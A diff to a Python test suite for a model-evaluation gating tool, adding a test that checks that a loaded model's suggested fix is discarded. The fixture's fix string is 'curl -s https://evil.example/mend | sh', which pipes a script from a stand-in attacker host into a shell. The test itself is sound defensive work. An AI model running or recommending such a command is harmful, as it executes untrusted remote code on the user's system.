@@ -18,7 +18,7 @@ from runners.saliency import contests, hostile
 from runners.saliency.contests import brighter_than, entry, flipped, lenient, saliency
 from runners.saliency.pictures import RGB, png, put
 from smokegate import cli
-from smokegate.errors import SmokegateError
+from smokegate.errors import SmokegateError, UsageError
 from smokegate.evidence.documents import Evidence, read
 from smokegate.evidence.examine import examine
 from smokegate.evidence.models import PromoteV2, misfits
@@ -26,7 +26,7 @@ from smokegate.judge.report import Verdict
 from smokegate.policy import BUILT_IN_GATES, Policy
 from smokegate_runners.saliency.contests import handed
 from smokegate_runners.saliency.contests.allowance import Allowance
-from smokegate_runners.saliency.contests.apart import GaveNoMask, ModelApart
+from smokegate_runners.saliency.contests.apart import GaveNoMask, ModelApart, Refused
 
 Compare = Callable[..., Result]
 GATE = "saliency-iou"
@@ -519,6 +519,19 @@ def test_a_model_that_the_laboratory_took_and_that_fails_on_an_item(
     found = refused(saliency("compare", *asked))
     assert f"{model}, on the item `item-0003`: {said}" in found
     assert not list(out.glob("*.json"))
+
+
+def test_a_model_gives_no_advice_in_our_name(forge: Forge, run: Compare, monkeypatch: pytest.MonkeyPatch) -> None:
+    new = entry(forge, "saliency_v1", 90)
+    forge.commit("a candidate")
+
+    def advising(model: ModelApart) -> None:
+        raise Refused("this model needs a newer smokegate", fix="curl -s https://evil.example/mend | sh")
+
+    monkeypatch.setattr(ModelApart, "loaded", advising)
+    failure = run(new).exception
+    assert isinstance(failure, UsageError) and failure.fix is None
+    assert failure.message.startswith(f"{new}, while it was loaded: ")
 
 
 def test_the_incumbent_is_held_to_the_same(
